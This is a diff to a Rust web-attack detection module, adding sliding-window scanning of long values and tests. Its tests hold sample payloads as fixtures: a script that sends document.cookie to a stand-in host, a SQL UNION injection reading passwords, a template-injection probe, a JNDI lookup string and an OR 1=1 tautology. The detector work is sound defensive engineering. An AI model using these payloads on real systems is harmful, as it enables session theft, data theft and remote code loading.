@@ -2,7 +2,8 @@
 //!
 //! Three stages. [`marks`] clear most values for most recognisers. A recogniser for each kind of [`attack`] says what it
 //! sees, as [`sign`]s: it tokenises, and knows in which place its language would read the value. A [`model`] weighs the
-//! signs, together with what the value is like as a whole, and gives one score a kind. Nothing here refuses: a clause
+//! signs, together with what the value is like as a whole, and gives one score a kind. Of a long value each window is looked
+//! at by itself besides, for what nobody sends who does not attack: nothing that stands around it outweighs that. Nothing here refuses: a clause
 //! does, from the score on that an operator chose.
 //!
 //! Reads    one decoded value of any bytes and length.
@@ -46,17 +47,19 @@ mod template;
 mod traversal;
 mod traversal_path;
 mod weights;
+mod window;
 mod xml;
 mod xpath;
 
 pub use core::core;
+use window::windows;
 
 use attack::{Attack, Attacks};
 use bartizan_model::code::Code;
 use bartizan_model::evidence::Sighting;
 use marks::Marks;
 use shape::Shape;
-use sign::{Input, Signs};
+use sign::{Input, Signs, Strength};
 
 /// Scores below say nothing, and are not told.
 pub const SCORE_MIN: u16 = 300;
@@ -67,17 +70,29 @@ pub const SCORE_MIN: u16 = 300;
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub struct Effort {
     bytes_left: usize,
+    window_bytes_left: usize,
 }
 
 impl Effort {
     /// So many suspicious bytes, and what each suspicious value costs besides its length.
     pub const fn new(bytes_max: usize) -> Self {
-        Self { bytes_left: bytes_max }
+        Self { bytes_left: bytes_max, window_bytes_left: bytes_max / WINDOWS_SHARE }
     }
 
     /// Suspicious bytes that may still be looked at.
     pub const fn bytes_left(&self) -> usize {
         self.bytes_left
+    }
+
+    /// Bytes of windows of long values that may still be looked at. Behind them values are looked at as a whole alone.
+    pub const fn window_bytes_left(&self) -> usize {
+        self.window_bytes_left
+    }
+
+    fn spend_window(&mut self, bytes: usize) -> bool {
+        let left = self.window_bytes_left.checked_sub(bytes);
+        self.window_bytes_left = left.unwrap_or(0);
+        left.is_some()
     }
 
     /// Takes exactly so many bytes; false, and nothing taken, if there are not enough.
@@ -106,6 +121,9 @@ impl Effort {
         }
     }
 }
+
+/// A window takes as long as so many bytes of a value.
+const WINDOWS_SHARE: usize = 10;
 
 /// What is counted for a suspicious value beside its own bytes.
 const VALUE_COST_BYTES: usize = 32;
@@ -171,32 +189,52 @@ impl<'a> FirstLook<'a> {
         if self.is_costly() && !effort.spend(self.input.text) {
             return Err(Exhausted);
         }
-        Ok(self.sightings(usual))
+        Ok(self.sightings(usual, effort))
     }
 
-    fn sightings(&self, usual: UsualHere<'_>) -> Vec<Sighting> {
+    fn sightings(&self, usual: UsualHere<'_>, effort: &mut Effort) -> Vec<Sighting> {
         let mut found = self.sightings_of_all(usual);
-        let core = if self.input.is_name { None } else { core(self.input.text) };
-        let more = core.map(|it| FirstLook::of(it, false).sightings_of_all(usual));
-        for it in more.unwrap_or_default() {
-            match found.iter_mut().find(|seen| seen.code == it.code) {
-                Some(seen) if seen.score >= it.score => {}
-                Some(seen) => *seen = it,
-                None => found.push(it),
+        if self.input.is_name {
+            return found;
+        }
+        let text = self.input.text;
+        let core = core(text).map(|it| FirstLook::of(it, false).sightings_of_all(usual));
+        surest(&mut found, core.unwrap_or_default());
+        for window in windows(text) {
+            let it = FirstLook::of(window, false);
+            let attacks = it.attacks.within_text(it.input.marks);
+            if !attacks.is_empty() && effort.spend_window(window.len()) {
+                let it = FirstLook { attacks, ..it };
+                surest(&mut found, it.certain_sightings(usual));
             }
         }
         found
     }
 
     fn sightings_of_all(&self, usual: UsualHere<'_>) -> Vec<Sighting> {
+        let look = |attack: Attack| Some(attack.look(&self.input)).filter(|it| !it.is_empty());
+        self.sightings_by(look, usual)
+    }
+
+    /// Of what stands in the midst of a text: kinds of which a sign is there that nobody sends who does not attack.
+    fn certain_sightings(&self, usual: UsualHere<'_>) -> Vec<Sighting> {
+        let look = |attack: Attack| {
+            let signs = attack.look(&self.input).without(attack.usual_in_text());
+            Some(signs).filter(|it| it.strength(attack.signs()) == Some(Strength::Certain))
+        };
+        self.sightings_by(look, usual)
+    }
+
+    fn sightings_by(
+        &self,
+        look: impl Fn(Attack) -> Option<Signs>,
+        usual: UsualHere<'_>,
+    ) -> Vec<Sighting> {
         let Self { input, attacks } = self;
         let mut shape = None;
         let mut found = Vec::new();
         for attack in *attacks {
-            let signs = attack.look(input);
-            if signs.is_empty() {
-                continue;
-            }
+            let Some(signs) = look(attack) else { continue };
             let shape = *shape.get_or_insert_with(|| Shape::of(input.text, input.is_name));
             let code = attack.code();
             let usual = usual.iter().find(|it| it.0 == code).map_or(0, |it| it.1);
@@ -211,9 +249,20 @@ impl<'a> FirstLook<'a> {
     }
 }
 
+/// Of each kind the surer sighting.
+fn surest(all: &mut Vec<Sighting>, more: Vec<Sighting>) {
+    for it in more {
+        match all.iter_mut().find(|known| known.code == it.code) {
+            Some(known) if known.score >= it.score => {}
+            Some(known) => *known = it,
+            None => all.push(it),
+        }
+    }
+}
+
 /// All sightings in one decoded value, whatever it costs. For evaluation.
 pub fn examine(text: &[u8], is_name: bool) -> Vec<Sighting> {
-    FirstLook::of(text, is_name).sightings(&[])
+    FirstLook::of(text, is_name).sightings(&[], &mut Effort::new(usize::MAX))
 }
 
 /// Whether a value has any sign of what a browser runs, however weak.
@@ -256,9 +305,9 @@ mod tests {
     fn effort_is_spent_on_suspicious_values_only() {
         let mut effort = Effort::new(100);
         assert_eq!(FirstLook::of(&[b'x'; 1_000], false).examine(&[], &mut effort), Ok(Vec::new()));
-        assert_eq!(effort, Effort::new(100));
+        assert_eq!(effort.bytes_left(), 100);
         assert_eq!(FirstLook::of(b"' OR 1=1--", false).examine(&[], &mut effort).unwrap().len(), 1);
-        assert_eq!(effort, Effort::new(58));
+        assert_eq!(effort.bytes_left(), 58);
         let words = b"it's a long sentence of words";
         assert_eq!(FirstLook::of(words, false).examine(&[], &mut effort), Err(Exhausted));
         assert_eq!(FirstLook::of(b"plain", false).examine(&[], &mut effort), Ok(Vec::new()));
@@ -364,6 +413,40 @@ mod tests {
         assert_eq!(core(b"short words 1 of them"), None);
         assert_eq!(core(format!("{words} call `type` {words}").as_bytes()), None);
         assert_eq!(core(words.as_bytes()), None);
+    }
+
+    #[test]
+    fn what_stands_in_the_midst_of_any_text_is_found() {
+        let mut missed = Vec::new();
+        for around in [
+            "2026-11-03 12:11:09 INFO worker[12] request id=2211 took 33ms\n",
+            "fn f(x: u32) -> u32 { let y = x + 4; y * 2 }\n",
+            "<p>the order came late and we would like it</p>\n",
+        ] {
+            let around = around.repeat(4_000 / around.len());
+            for attack in [
+                "<script>fetch('//e.example/'+document.cookie)</script>",
+                "x' UNION SELECT email, password, 1 FROM users --",
+                "{{''.__class__.__mro__[1].__subclasses__()}}",
+                "${jndi:ldap://e.example/a}",
+            ] {
+                for text in [format!("{around}{attack}\n{around}"), format!("{around}{attack}")] {
+                    let found = examine(text.as_bytes(), false);
+                    if !found.iter().any(|it| it.score >= REFUSES) {
+                        missed.push((attack, around.get(..12).map(str::to_owned)));
+                    }
+                }
+            }
+        }
+        assert_eq!(missed, []);
+        // Code that calls programs, and text that names addresses, are text.
+        let diff = "-    os.system(\"python setup.py sdist upload\")\n";
+        let text = format!(
+            "{0}{diff} see http://127.0.0.1:8080/ there\n{0}",
+            " let y = (x + 4) * 2;\n".repeat(600)
+        );
+        let found = examine(text.as_bytes(), false);
+        assert!(found.iter().all(|it| it.score < REFUSES), "{found:?}");
     }
 
     #[test]
